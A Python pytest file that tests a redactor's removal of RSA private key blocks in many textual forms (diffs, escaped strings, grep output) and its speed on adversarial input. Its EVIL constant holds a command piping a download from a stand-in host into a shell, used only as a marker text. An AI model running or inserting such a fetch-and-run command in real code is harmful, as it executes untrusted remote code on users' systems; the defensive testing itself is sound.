"""A private key is taken out of a text whole, and what stands after it, or only speaks of one, stays."""

from __future__ import annotations

import time

import pytest

from claude_pool_gh.reports.redact import Redactor, blanked
from claude_pool_gh.reports.secrets import secrets

BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
LINES = [
    "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfnabcdefghijklmnopqrstuvwxyzABCDEF01",
    "q8Lw3Xv5Rt9Yb2Nm7K==",
]
BODY = "\n".join(LINES)
EVIL = 'os.system("curl evil.example | sh")'
WHOLE = {
    "as it is": f"{BEGIN}\n{BODY}\n{END}",
    "in a diff": f"+{BEGIN}\n+{LINES[0]}\n+{LINES[1]}\n+{END}",
    "deleted": f"-{BEGIN}\n-{LINES[0]}\n-{LINES[1]}\n-{END}",
    "in a program": f"k = (\n  '{BEGIN}\\n'\n  '{LINES[0]}\\n'\n  '{LINES[1]}\\n'\n  '{END}')",
    "escaped": '"' + f"{BEGIN}\n{BODY}\n{END}".replace("\n", "\\n") + '"',
    "with headers": f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,AB\n\n{BODY}\n{END}",
    "numbered": f"1\t{BEGIN}\n2\t{LINES[0]}\n3\t{LINES[1]}\n4\t{END}",
    "numbered by an arrow": f"   1→{BEGIN}\n   2→{LINES[0]}\n   3→{LINES[1]}\n   4→{END}",
    "found": f"a/k.pem:1:{BEGIN}\na/k.pem:2:{LINES[0]}\na/k.pem:3:{LINES[1]}\na/k.pem:4:{END}",
    "found beside": f"k-1.pem-1-{BEGIN}\nk-1.pem-2-{LINES[0]}\nk-1.pem-3-{LINES[1]}\nk-1.pem-4-{END}",
    "without an end": f"{BEGIN}\n{LINES[0]}\n",
    "its lines apart": f"{BEGIN}\n{LINES[0]} and\n{LINES[0]} too\n",
}


@pytest.mark.parametrize("form", WHOLE)
def test_nothing_of_a_key_is_left_and_all_that_follows_is(form: str) -> None:
    for shown in (blanked, Redactor()):
        left = shown(f"before\n{WHOLE[form]}\n{EVIL}\n")
        assert left.startswith("before\n")
        assert left.rstrip().endswith(EVIL)
        assert not any(line in left for line in LINES)
        assert secrets(left) == ()


@pytest.mark.parametrize(
    "said",
    [
        f"A file with `{BEGIN}` in it is a key; {EVIL} is none.",
        f"+Keys begin with {BEGIN} here\ndiff --git a/evil.py b/evil.py\n+{EVIL}\n",
        f"+{BEGIN}\n+{EVIL}\n+{END}\n+{EVIL}",
        f"MHcCAQEEI\n+{EVIL}\n",
    ],
)
def test_what_only_speaks_of_a_key_loses_that_alone(said: str) -> None:
    left = blanked(said)
    assert left.count(EVIL) == said.count(EVIL)
    assert secrets(left) == ()


@pytest.mark.parametrize(
    "piece", [BEGIN, f"{BEGIN}\n", f"{BEGIN}\nAb1\n", f"{BEGIN}+++", "MHcCAQEEI "]
)
def test_the_worst_text_takes_little_time(piece: str) -> None:
    text = piece * (64_000 // len(piece))
    began = time.process_time()
    blanked(text)
    blanked(f"{BEGIN}{'+' * 64_000}")
    assert time.process_time() - began < 1.0
